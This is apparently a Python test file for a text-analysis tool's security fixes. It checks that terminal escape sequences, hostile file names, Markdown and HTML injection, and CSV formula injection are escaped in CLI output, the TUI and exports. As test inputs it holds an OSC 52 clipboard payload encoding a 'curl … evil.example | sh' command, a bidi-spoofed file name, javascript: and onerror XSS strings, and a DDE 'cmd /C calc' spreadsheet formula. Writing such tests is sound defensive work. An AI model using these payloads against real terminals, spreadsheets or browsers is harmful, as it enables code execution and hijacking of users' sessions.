"""Issue 13, security: nothing an article or a file name holds reaches a terminal or a file as a
command. Each test names the case of the issue it guards."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from seedview.model.export import render
from seedview.model.marks import MarkStore
from seedview.model.pipeline import analyze
from seedview.model.sanitize import is_safe_for_terminal
from seedview.model.schema import Analysis, Mark
from seedview.tui import cli

CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUveHxzaA==\x07"  # OSC 52: set the clipboard
CLEAR_AND_TITLE = "\x1b[2J\x1b]0;owned\x07"
C1_CSI = "\x9b2J"  # the 8-bit form of ESC [
BIDI = "\u202egnp.exe"
# Terminal-obeyed bytes: ESC, BEL, C1 controls, and the bidi override.
UNSAFE_BYTES = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_corpus(folder: Path) -> list[str]:
    """Two English articles that share a sentence (a group) and disagree on a figure (a
    conflict), every part laced with terminal commands."""
    first = (
        f"Acme Inc. results {CLEAR_AND_TITLE}\n\n"
        f"Acme Inc. reported revenue of 5 million dollars in 2024, the company said {CLIPBOARD} on Monday.\n\n"
        f"Analysts at the bank called the {C1_CSI} quarter a turning point {BIDI} for the group.\n"
    )
    second = (
        "Acme Inc. figures\n\n"
        f"Acme Inc. reported revenue of 7 million dollars in 2024, the company said {CLIPBOARD} on Monday.\n\n"
        f"Analysts at the bank called the {C1_CSI} quarter a turning point {BIDI} for the group.\n"
    )
    html = (
        "<html><head><title>Acme\n# Owned\n[click me](javascript:alert(1)) &#x1b;]0;t&#x07;</title>"
        "</head><body><p>Acme Inc. reported revenue of 5 million dollars in 2024, the company "
        "said &#x1b;]52;c;cHdu&#x07; on Monday.</p></body></html>"
    )
    # Long enough that a few control characters do not make the file look binary.
    filler = "\n\nThe rest of the report covers the weather, the markets and sport. " * 12
    names = ["a\x1b]0;PWN\x07.txt", "b.txt", "c.html"]
    for name, text in zip(names, (first + filler, second + filler, html), strict=True):
        (folder / name).write_text(text, encoding="utf-8")
    return [str(folder / name) for name in names]


def run(*args: str) -> subprocess.CompletedProcess[str]:
    """`seedview ARGS` in this process (the analysis tables are loaded once for all tests)."""
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        status = cli.main(list(args))
    return subprocess.CompletedProcess(list(args), status, stdout.getvalue(), stderr.getvalue())


def assert_safe(output: str) -> None:
    found = UNSAFE_BYTES.findall(output)
    assert not found, f"terminal commands reach the output: {found[:5]}"


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[list[str], Analysis]:
    paths = hostile_corpus(tmp_path)
    return paths, analyze(paths)


def test_case_1_cli_reports_show_control_sequences_as_symbols(
    hostile: tuple[list[str], Analysis],
) -> None:
    paths, analysis = hostile
    assert analysis.conflicts, "the corpus is built to hold a conflict"
    for command in (["analyze"], ["conflicts"], ["analyze", "--json"]):
        result = run(*command, *paths)
        assert result.returncode == 0, result.stderr
        assert_safe(result.stdout)
        assert_safe(result.stderr)
    shown = run("conflicts", *paths).stdout
    assert "␛]52;c;" in shown  # visible, not obeyed and not silently dropped


def test_case_1_json_keeps_the_text_exact_but_escaped(hostile: tuple[list[str], Analysis]) -> None:
    paths, analysis = hostile
    result = run("analyze", "--json", *paths)
    document = json.loads(result.stdout)
    assert [s["text"] for s in document["sources"]] == [s.text for s in analysis.sources]
    assert "\\u009b" in result.stdout and "\\u202e" in result.stdout


def test_case_1_export_to_stdout_and_files_is_safe(
    hostile: tuple[list[str], Analysis], tmp_path: Path
) -> None:
    paths, analysis = hostile
    store = MarkStore()
    for passage in analysis.passages:
        source = next(s for s in analysis.sources if s.id == passage.source)
        store.add(source.sha256, passage.start, passage.end, note=f"see {CLIPBOARD}")
    for fmt in ("md", "csv", "json"):
        result = run("export", *paths, "--format", fmt, "-o", "-")
        assert result.returncode == 0, result.stderr
        assert_safe(result.stdout)
        target = tmp_path / f"out.{fmt}"
        assert run("export", *paths, "--format", fmt, "-o", str(target)).returncode == 0
        assert_safe(target.read_text(encoding="utf-8"))  # `cat out.md` is safe too


def test_case_1_html_entities_do_not_bypass_the_sanitiser(
    hostile: tuple[list[str], Analysis],
) -> None:
    paths, analysis = hostile
    page = next(s for s in analysis.sources if s.path.endswith(".html"))
    assert "\x1b" in page.text  # the entity decodes to ESC in the source text (offsets hold)
    assert_safe(run("analyze", paths[2]).stdout)


def test_case_2_file_names_never_reach_the_terminal_raw(tmp_path: Path) -> None:
    bad = tmp_path / "x\x1b]0;PWN\x07\nsecond line.txt"
    bad.write_text("")  # empty: a problem line that names the file
    good = tmp_path / "good.txt"
    good.write_text("Acme Inc. reported revenue of 5 million dollars in 2024 on Monday.\n")
    result = run("analyze", str(bad), str(good))
    assert result.returncode == 0
    problems = [line for line in result.stderr.splitlines() if line.startswith("seedview:")]
    assert len(problems) == 1 and "empty file" in problems[0]  # one file, one line
    assert "␛]0;PWN␇␊second line.txt" in problems[0]
    assert_safe(result.stderr)


async def test_case_2_app_titles_show_file_names_as_symbols(tmp_path: Path) -> None:
    from seedview.tui.app import SeedviewApp
    from seedview.tui.diff_pane import DiffColumns
    from seedview.tui.source_view import SourceView

    paths = hostile_corpus(tmp_path)
    app = SeedviewApp(paths=paths)
    async with app.run_test(size=(160, 45)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        await pilot.press("1")
        view = app.query_one(SourceView)
        titles = f"{view.border_title} {view.border_subtitle}"
        assert "␛]0;PWN␇" in titles
        shown = "".join(
            segment.text
            for widget in (view, app.query_one(DiffColumns))
            for line in widget.strips
            for segment in line
        )
        assert_safe(titles + shown)
        assert_safe(app.export_screenshot())


def live_markdown(line: str) -> list[str]:
    """Characters of a line that Markdown would read as a link, image or tag (unescaped [ ] <
    >), after the quote marker that starts a quoted line."""
    body = line[2:] if line.startswith("> ") else line.removeprefix(">")
    live, index = [], 0
    while index < len(body):
        character = body[index]
        if character == "\\":  # an escape: the next character is literal
            index += 2
            continue
        if character == "`":  # an unescaped code span: nothing inside it is a link
            run = len(body[index:]) - len(body[index:].lstrip("`"))
            close = body.find("`" * run, index + run)
            index = close + run if close != -1 else index + run
            continue
        if character in "[]<>":
            live.append(character)
        index += 1
    return live


def _hostile_marks(analysis: Analysis, note: str) -> list[Mark]:
    by_id = {s.id: s for s in analysis.sources}
    return [
        Mark(source_sha256=by_id[p.source].sha256, start=p.start, end=p.end, note=note, created="")
        for p in analysis.passages
    ]


def test_case_3_markdown_titles_and_notes_stay_inside_the_citation(
    hostile: tuple[list[str], Analysis],
) -> None:
    _, analysis = hostile
    note = "# heading\n[click](javascript:alert(1)) <img src=x onerror=alert(1)> **bold**"
    text = render(analysis, _hostile_marks(analysis, note), "md")
    assert_safe(text)
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert all(line == "# Marked passages" or line.startswith("## ") for line in headings)
    assert "# Owned" not in "\n".join(headings)
    # No live link, image or HTML tag: every [ ] < > is escaped.
    assert not [line for line in text.splitlines() if live_markdown(line)]
    assert "\\[click me\\](javascript:alert(1))" in text


def test_case_3_csv_cells_never_start_a_formula(hostile: tuple[list[str], Analysis]) -> None:
    _, analysis = hostile
    for formula in (
        '=HYPERLINK("http://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-1+1",
        "\t=1",
        "\r=1",
    ):
        rows = list(
            csv.reader(io.StringIO(render(analysis, _hostile_marks(analysis, formula), "csv")))
        )
        assert len(rows) == len(analysis.passages) + 1  # no cell broke a row
        notes = [row[8] for row in rows[1:]]
        assert all(note.startswith("'") for note in notes), notes[:2]
        for row in rows[1:]:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_case_13_control_sequences_are_no_figures(tmp_path: Path) -> None:
    body = "Acme Inc. reported revenue of {} in 2024, the company said on Monday.\n\nAnalysts had expected more.\n"
    (tmp_path / "a.txt").write_text(body.format("5 million dollars"))
    (tmp_path / "b.txt").write_text(body.format("\x1b[0m dollars"))
    analysis = analyze([str(tmp_path / "a.txt"), str(tmp_path / "b.txt")])
    figures = [c for c in analysis.claims if c.source == "b" and c.kind == "figure"]
    assert figures == []
    assert not [c for c in analysis.conflicts if c.kind != "different_period"]
    for source in analysis.sources:  # offsets still index the source text
        for passage in (p for p in analysis.passages if p.source == source.id):
            assert source.text[passage.start : passage.end] == passage.text
    assert is_safe_for_terminal(run("conflicts", str(tmp_path / "b.txt")).stdout)


def test_a_file_name_with_undecodable_bytes_reaches_json_and_stderr(tmp_path: Path) -> None:
    folder = os.fsencode(tmp_path)
    good = os.fsdecode(folder + b"/caf\xe9.txt")  # latin-1 bytes: not UTF-8
    Path(good).write_text("Acme Inc. reported revenue of 5 million dollars in 2024 on Monday.\n")
    empty = os.fsdecode(folder + b"/\xff\x1b]0;x\x07.txt")
    Path(empty).write_text("")
    result = run("analyze", "--json", good, empty)
    assert result.returncode == 0, result.stderr
    document = json.loads(result.stdout)
    assert document["sources"][0]["path"].endswith("caf\ufffd.txt")
    assert result.stderr.count("\n") == 1 and "\ufffd␛]0;x␇.txt: empty file" in result.stderr
